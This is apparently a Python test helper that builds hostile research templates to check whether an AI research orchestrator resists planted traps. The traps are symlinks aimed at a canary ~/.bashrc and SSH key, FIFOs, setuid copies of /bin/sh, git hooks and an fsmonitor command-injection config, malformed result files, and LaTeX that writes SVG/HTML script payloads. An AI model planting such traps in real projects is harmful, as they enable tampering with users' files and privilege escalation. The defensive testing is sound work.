"""Hostile research templates for the trust suite: the minimal template, whose experiment code,
plot code and LaTeX plant traps for the orchestrator in the idea's work folder.

A `Site` is the user's machine around the run: a home with a shell profile and a key, a file
beside the experiments, and the path a planted hook or fsmonitor would touch if it ever ran.
The canaries' host paths are written into the template (`traps.json`), as an attacker who
knows the usual layout would write them.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

from tests.helpers import scaffold

CANARY = "CANARY-" + uuid.uuid4().hex


@dataclass
class Site:
    root: Path
    home: Path
    bashrc: Path
    secret: Path
    outside: Path
    ran: Path  # created by a planted command if one ever runs

    @classmethod
    def make(cls, root: Path) -> Site:
        home = root / "home"
        (home / ".ssh").mkdir(parents=True)
        site = cls(root, home, home / ".bashrc", home / ".ssh" / "id_rsa", root / "outside.txt", root / "COMMAND-RAN")
        site.bashrc.write_text(f"# profile {CANARY}\n")
        site.secret.write_text(f"-----BEGIN KEY-----\n{CANARY}\n")
        site.outside.write_text(f"neighbour {CANARY}\n")
        return site

    def canaries(self) -> dict[str, str]:
        return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in (self.bashrc, self.secret, self.outside)}

    def traps(self) -> dict[str, str]:
        return {"bashrc": str(self.bashrc), "secret": str(self.secret), "home": str(self.home),
                "outside": str(self.outside), "ran": str(self.ran)}


# ---------------------------------------------------------------- what the code plants

_COMMON = r'''
import json as _json, os as _os, shutil as _shutil, sys as _sys

_T = _json.load(open("traps.json"))


def _link(target, name):
    try:
        _os.remove(name)
    except (FileNotFoundError, IsADirectoryError, PermissionError):
        _shutil.rmtree(name, ignore_errors=True)
    _os.symlink(target, name)


def _fifo(name):
    if not _os.path.lexists(name):
        _os.mkfifo(name)


def _setuid(name):
    _shutil.copy("/bin/sh", name)
    _os.chmod(name, 0o4755)
'''

# Every trap that the orchestrator survives by refusing or repairing: the run itself succeeds.
SURVIVABLE = _COMMON + r'''

def plant():
    if "--out_dir" in _sys.argv and _sys.argv[_sys.argv.index("--out_dir") + 1] == "run_0":
        return  # the baseline stays clean: a broken baseline would end the run before any trap is met
    _link(_T["bashrc"], "notes.md")  # the lab notebook's old name: appending would write ~/.bashrc
    _link(_T["bashrc"], "runs.json")
    _link(_T["secret"], "labels.json")  # written by the orchestrator right before plot.py
    _link(_T["home"], "paper")  # the writeup's folder, swapped for the home folder
    _link(_T["home"], "figures")
    _link("loop_b", "loop_a")  # a symlink loop
    _link("loop_a", "loop_b")
    _os.makedirs("deep/er", exist_ok=True)
    _link(_T["outside"], "deep/er/outside.txt")
    _fifo("results.json")
    _fifo("review.json")
    _setuid("suid_sh")
'''

PLOT_TRAPS = _COMMON + r'''

def plant():
    _link(_T["secret"], _os.path.join(args.out_dir, "stolen.png"))  # a "figure" that is a key
    _fifo(_os.path.join(args.out_dir, "pipe.png"))
    _link(_T["home"], "paper")
    _setuid("suid_plot")
'''

# Traps that make the run a failure: git metadata, unreadable results. Each attempt plants
# a different one (counted in attempts.txt), so the fix loop meets them all.
FATAL = _COMMON + r'''

def plant():
    if "--out_dir" in _sys.argv and _sys.argv[_sys.argv.index("--out_dir") + 1] == "run_0":
        return
    out = _sys.argv[_sys.argv.index("--out_dir") + 1]
    n = int(open("attempts.txt").read()) + 1 if _os.path.exists("attempts.txt") else 1
    open("attempts.txt", "w").write(str(n))
    ran = _T["ran"]
    if n == 1:
        _os.makedirs(".git/hooks", exist_ok=True)
        for hook in ("post-commit", "pre-commit", "post-checkout"):
            open(f".git/hooks/{hook}", "w").write(f"#!/bin/sh\ntouch {ran}\n")
            _os.chmod(f".git/hooks/{hook}", 0o755)
        open(".git/config", "a").write(f'[core]\n\tfsmonitor = "touch {ran}"\n\thooksPath = .git/hooks\n')
    elif n == 2:
        open(_os.path.join(out, "final_info.json"), "w").write("[" * 200_000 + "]" * 200_000)
    elif n == 3:
        _os.makedirs("sub/.git", exist_ok=True)  # an embedded repository with its own config
        open("sub/.git/config", "w").write(f'[core]\n\tfsmonitor = "touch {ran}"\n')
        _os.makedirs("hidden", exist_ok=True)
        _link(_T["bashrc"], "hidden/notes.md")
        _os.chmod("hidden", 0o300)  # writable, not listable: a scan that skips it misses the link
    elif n == 4:
        open(_os.path.join(out, "final_info.json"), "wb").write(b"\xff\xfe not UTF-8 \x80")
    else:
        _os.remove(_os.path.join(out, "final_info.json"))
        _fifo(_os.path.join(out, "final_info.json"))
'''


def hostile_template(root: Path, site: Site, *, fatal: bool = False) -> Path:
    """The scaffold template, with traps planted by its experiment, its plot code and its LaTeX."""
    tpl = scaffold(root, "hostile_fatal" if fatal else "hostile")
    (tpl / "traps.json").write_text(json.dumps(site.traps()))
    exp = tpl / "experiment.py"
    code = exp.read_text()
    tail = 'if __name__ == "__main__":\n    main()\n'
    assert code.endswith(tail), "the scaffold's experiment.py changed shape"
    exp.write_text(code[: -len(tail)] + (FATAL if fatal else SURVIVABLE) + "\n\n" + tail + "    plant()\n")
    plot = tpl / "plot.py"
    plot.write_text(plot.read_text() + PLOT_TRAPS + "\n\nplant()\n")
    tex = tpl / "latex" / "template.tex"
    tex.write_text(tex.read_text().replace("\\begin{document}", "\\begin{document}\n" + OPENOUT, 1))
    return tpl


# LaTeX may write files in its own folder (openout_any=p): an SVG or HTML with script that a
# browser would run if the archive copied it and served it as what its name says.
OPENOUT = r"""\newwrite\evilout
\immediate\openout\evilout=evil.svg
\immediate\write\evilout{<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"></svg>}
\immediate\closeout\evilout
\immediate\openout\evilout=evil.html
\immediate\write\evilout{<script>fetch("/index.html")</script>}
\immediate\closeout\evilout
"""


# ---------------------------------------------------------------- what must never be seen


@dataclass
class SetuidWatch:
    """Polls a folder while a run goes on and records every setuid/setgid file it ever sees, with
    its owner and whether its run folder was private (0700)."""

    root: Path
    seen: list[tuple[str, int, bool]] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)

    def __enter__(self) -> SetuidWatch:
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.look()

    def _loop(self) -> None:
        while not self._stop.is_set():
            self.look()
            time.sleep(0.02)

    def look(self) -> None:
        for dirpath, _, names in os.walk(self.root):
            for name in names:
                path = os.path.join(dirpath, name)
                try:
                    st = os.lstat(path)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                    self.seen.append((path, st.st_uid, _private_run_folder(Path(path), self.root)))


def _private_run_folder(path: Path, experiments: Path) -> bool:
    """Whether the run folder holding `path` (experiments/<run_id>) is private to its owner."""
    run = experiments / path.relative_to(experiments).parts[0]
    return stat.S_IMODE(run.stat().st_mode) == 0o700


def files_holding(root: Path, needle: str) -> list[Path]:
    """Regular files under `root` whose bytes contain `needle` (links are never followed)."""
    out = []
    for dirpath, _, names in os.walk(root):
        for name in names:
            p = Path(dirpath, name)
            if p.is_file() and not p.is_symlink() and needle.encode() in p.read_bytes():
                out.append(p)
    return out
